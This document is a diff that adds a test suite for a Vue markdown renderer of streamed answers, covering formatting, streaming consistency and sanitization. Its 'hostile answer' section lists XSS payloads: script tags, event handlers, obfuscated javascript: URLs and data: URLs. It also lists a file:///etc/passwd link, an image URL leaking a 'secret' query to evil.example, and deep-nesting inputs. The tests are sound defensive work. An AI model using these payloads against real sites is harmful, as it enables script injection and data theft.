@@ -1,0 +1,234 @@
+import { createSSRApp, h, isVNode, type VNode } from 'vue'
+import { renderToString } from 'vue/server-renderer'
+import { describe, expect, it } from 'vitest'
+import { MarkdownBlocks } from './blocks.ts'
+import MarkdownText from './markdown-text.ts'
+import { renderTokens } from './render.ts'
+
+/** The HTML of a finished answer, without the comments Vue puts around fragments. */
+async function html(source: string, final = true): Promise<string> {
+  const page = await renderToString(
+    createSSRApp({ render: () => h(MarkdownText, { source, final }) }),
+  )
+  return page.replace(/<!--.*?-->/g, '')
+}
+
+/** Feeds a text in steps, as it would stream, and gives the blocks after the last one. */
+function streamed(source: string, step: number) {
+  const parser = new MarkdownBlocks()
+  for (let end = step; end < source.length; end += step) parser.update(source.slice(0, end), false)
+  return parser.update(source, true)
+}
+
+function nodesOf(children: unknown): VNode[] {
+  if (!Array.isArray(children)) return isVNode(children) ? nodesOf([children]) : []
+  return children.filter(isVNode).flatMap((node) => [node, ...nodesOf(node.children)])
+}
+
+function plain(blocks: ReturnType<MarkdownBlocks['update']>): string {
+  return JSON.stringify(
+    blocks.map(({ tokens }) => renderTokens(tokens)),
+    ['type', 'props', 'children', 'href', 'code'],
+  )
+}
+
+const LONG = `# Title
+
+A paragraph with **bold**, *italic*, \`code\` and a [link](https://example.com/a).
+It goes on.
+
+- one
+- two
+  - nested **deep**
+
+1. first
+2. second
+
+> quoted
+> twice
+
+\`\`\`ts
+const a = 1
+
+// # not a heading
+\`\`\`
+
+| a | b |
+|---|--:|
+| 1 | 2 |
+
+---
+
+- [ ] open
+- [x] done
+
+The end`
+
+describe('an answer in markdown', () => {
+  it('is rendered as elements, with headings below those of the page', async () => {
+    expect(await html('# A\n\n## B\n\ntext **b** *i* ~~s~~ `c`')).toBe(
+      '<h3 dir="auto">A</h3><h4 dir="auto">B</h4>' +
+        '<p dir="auto">text <strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>',
+    )
+  })
+
+  it('shows task lists as checkboxes that cannot be pressed', async () => {
+    const page = await html('- [ ] open\n- [x] **done**')
+    expect(page).toContain(
+      '<li class="task"><input type="checkbox" disabled aria-label="To do">open</li>',
+    )
+    expect(page).toContain('checked aria-label="Done"><strong>done</strong></li>')
+  })
+
+  it('keeps the start of a list and the side of a table column', async () => {
+    expect(await html('3. three')).toContain('<ol dir="auto" start="3">')
+    expect(await html('| a |\n|--:|\n| 1 |')).toContain('<td class="align-right">1</td>')
+  })
+
+  it('gives a code block its language, a copy button, and no text but the code', async () => {
+    const page = await html('```ts title\nlet a = "<b>"\n```')
+    expect(page).toContain('data-language="ts"')
+    expect(page).toContain('aria-label="Copy code"')
+    expect(page.replace(/<[^>]*>/g, '')).toBe('let a = &quot;&lt;b&gt;&quot;')
+  })
+
+  it('gives links a new window that learns nothing about this one', async () => {
+    expect(await html('https://example.com/x')).toContain(
+      '<a href="https://example.com/x" target="_blank" rel="noopener noreferrer nofollow ugc">',
+    )
+  })
+
+  it('shows an image as a link that says where it leads', async () => {
+    const page = await html('![a cat](https://evil.example/cat.png?q=secret)')
+    expect(page).not.toContain('<img')
+    expect(page).toContain('a cat (evil.example)')
+  })
+})
+
+describe('an answer that is being written', () => {
+  it.each([1, 3, 7, 50])(
+    'ends as one parse of the whole text when it comes in steps of %i',
+    (step) => {
+      const whole = new MarkdownBlocks().update(LONG, true)
+      expect(plain(streamed(LONG, step))).toBe(plain(whole))
+    },
+  )
+
+  it.each([1, 4])('resolves references to later definitions at its end, in steps of %i', (step) => {
+    const source =
+      'See [x] and [y].\n\nMore.\n\n[x]: https://example.com/x\n[y]: https://exam\n\nLast.'
+    expect(plain(streamed(source, step))).toBe(plain(new MarkdownBlocks().update(source, true)))
+    expect(plain(streamed(source, step))).toContain('https://example.com/x')
+  })
+
+  it('leaves finished blocks alone', () => {
+    const parser = new MarkdownBlocks()
+    const before = parser.update('One.\n\nTwo.\n\nThr', false)
+    const after = parser.update('One.\n\nTwo.\n\nThree, and mo', false)
+    const end = parser.update('One.\n\nTwo.\n\nThree, and more.', true)
+    expect(after[0]).toBe(before[0])
+    expect(end[0]).toBe(before[0])
+    expect(after[1]).not.toBe(undefined)
+    expect(after[2]).not.toBe(before[2])
+  })
+
+  it('does not finish a block whose continuation may still be on its way', () => {
+    const parser = new MarkdownBlocks()
+    parser.update('Para\n#', false)
+    expect(parser.update('Para\n#tag goes on', false)).toHaveLength(1)
+  })
+
+  it('closes what is open in the last block, and shows no half address', async () => {
+    expect(await html('some **bo', false)).toContain('<strong>bo</strong>')
+    expect(await html('see [the docs](https://exam', false)).not.toContain('href')
+    expect(await html('see ![the cat](https://exam', false)).not.toContain('href')
+    expect(await html('```\n**bo', false)).toContain('**bo')
+  })
+
+  it('begins anew when the text is corrected', () => {
+    const parser = new MarkdownBlocks()
+    parser.update('One.\n\nTwo.\n\nThree', false)
+    expect(plain(parser.update('Other.\n\nText', true))).toBe(
+      plain(new MarkdownBlocks().update('Other.\n\nText', true)),
+    )
+  })
+})
+
+describe('a hostile answer', () => {
+  const CORPUS = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<div style="position:fixed;inset:0">over</div>',
+    '<style>@import url(https://evil.example)</style>',
+    '<a href="javascript:alert(1)">x</a>',
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](javascript&colon;alert(1))',
+    '[x](java&#115;cript:alert(1))',
+    '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74)',
+    '[x](java&Tab;script&colon;alert(1))',
+    '[x](<java\tscript:alert(1)>)',
+    '[x](\u0001javascript:alert(1))',
+    '[x](vbscript:msgbox(1))',
+    '[x](file:///etc/passwd)',
+    '[x](data:text/html,<script>alert(1)</script>)',
+    '[x](data:text/html;base64,PHNjcmlwdD4=)',
+    '[x](blob:https://a/b)',
+    '<javascript:alert(1)>',
+    '[x]\n\n[x]: javascript:alert(1)',
+    '![x](https://evil.example/a.png)',
+    '![x](javascript:alert(1))',
+    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+    '![x" onerror="alert(1)](https://evil.example/a.png)',
+    '[![x](https://evil.example/a.png)](javascript:alert(1))',
+    '![x][r]\n\n[r]: https://evil.example/a.png "t"',
+    '[x](https://example.com "onmouseover=alert(1)")',
+    '```" onclick="alert(1)\ncode\n```',
+    '`<img src=x onerror=alert(1)>`',
+    '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
+    '- [x] <script>alert(1)</script>',
+    '# <script>alert(1)</script>',
+    '> <form action="https://evil.example"><input></form>',
+    '<math><mtext></mtext></math>',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '//evil.example [x](//evil.example)',
+  ]
+  const ELEMENTS = new Set(
+    'p h3 h4 h5 h6 ul ol li blockquote table thead tbody tr th td em strong s a code br hr span div input'.split(
+      ' ',
+    ),
+  )
+  const ATTRIBUTES = new Set(
+    'dir class href target rel start type disabled checked aria-label code language'.split(' '),
+  )
+
+  it.each(CORPUS)('is no more than text, links and lists: %j', (source) => {
+    for (let end = 1; end <= source.length; end++) {
+      const blocks = new MarkdownBlocks().update(source.slice(0, end), end === source.length)
+      for (const node of nodesOf(blocks.flatMap(({ tokens }) => renderTokens(tokens)))) {
+        if (typeof node.type === 'string') expect(ELEMENTS).toContain(node.type)
+        for (const name of Object.keys(node.props ?? {})) expect(ATTRIBUTES).toContain(name)
+        const href: unknown = node.props?.['href']
+        if (href !== undefined) expect(href).toMatch(/^(https?|mailto):/)
+      }
+    }
+  })
+
+  it('leads to no element of its own in the page', async () => {
+    const page = await html(CORPUS.join('\n\n'))
+    expect(page).not.toMatch(/<(script|img|svg|iframe|style|form|math|video)/i)
+    expect(page).not.toMatch(/<[^>]*\son\w+=/i)
+  })
+
+  it.each([
+    '> '.repeat(3000),
+    '['.repeat(5000),
+    '*'.repeat(5000),
+    '- '.repeat(2000),
+    '`'.repeat(5000),
+  ])('does not take the page down however it is nested', async (source) => {
+    expect((await html(source)).length).toBeGreaterThan(0)
+  })
+})
